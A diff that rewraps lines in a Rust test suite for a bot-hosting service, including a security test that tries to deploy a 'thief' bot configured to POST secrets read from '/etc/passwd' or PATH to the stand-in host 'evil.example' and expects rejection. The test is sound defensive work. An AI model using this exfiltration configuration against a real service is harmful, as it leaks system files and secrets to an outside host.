@@ -55,12 +55,15 @@ impl Two {
             let server = Server::new(Settings::hapi(base.clone()));
             two._servers.push(Running::start(listener, server, Arc::new(SystemClock), Delivery::default()).unwrap());
             let token = json!({ "file": two.folder.path().join("admin-token") });
-            let body = json!({ "base": base.to_string(), "inbound": { "type": "header", "name": "Authorization", "value": token } });
+            let body =
+                json!({ "base": base.to_string(), "inbound": { "type": "header", "name": "Authorization", "value": token } });
             two.must(Method::PUT, &format!("{tenant}/sources/{source}"), body).await;
             let checked = two.must(Method::POST, &format!("{tenant}/sources/{source}/check"), json!({})).await;
             assert!(checked.as_str().is_some_and(|lines| lines.contains("\"usable\":true")), "{checked}");
         }
-        let more = format!("{SECRETS}[settings.of-theirs]\ntype = \"string\"\ndefault = \"{THEIRS}\"\n[secrets]\nOF_THEIRS = {{ env = \"PATH\" }}\n");
+        let more = format!(
+            "{SECRETS}[settings.of-theirs]\ntype = \"string\"\ndefault = \"{THEIRS}\"\n[secrets]\nOF_THEIRS = {{ env = \"PATH\" }}\n"
+        );
         two.must(Method::POST, "theirs/bots", deploy("keeper", "ehr", &more)).await;
         two
     }
@@ -173,7 +176,8 @@ async fn files() -> Result<String, String> {
         "{ file = \"/etc/passwd\" }".to_owned(),
         "{ env = \"PATH\" }".to_owned(),
     ] {
-        let more = format!("{SECRETS}[[http]]\nmethods = [\"POST\"]\nhost = \"evil.example\"\npath = \"/\"\n[secrets]\nX = {secret}\n");
+        let more =
+            format!("{SECRETS}[[http]]\nmethods = [\"POST\"]\nhost = \"evil.example\"\npath = \"/\"\n[secrets]\nX = {secret}\n");
         let (status, answer) = two.call(Method::POST, "ours/bots", deploy("thief", "ehr", &more)).await;
         if status.is_success() {
             return Err(format!("a release is in service that sends {secret} to a host of its choice"));
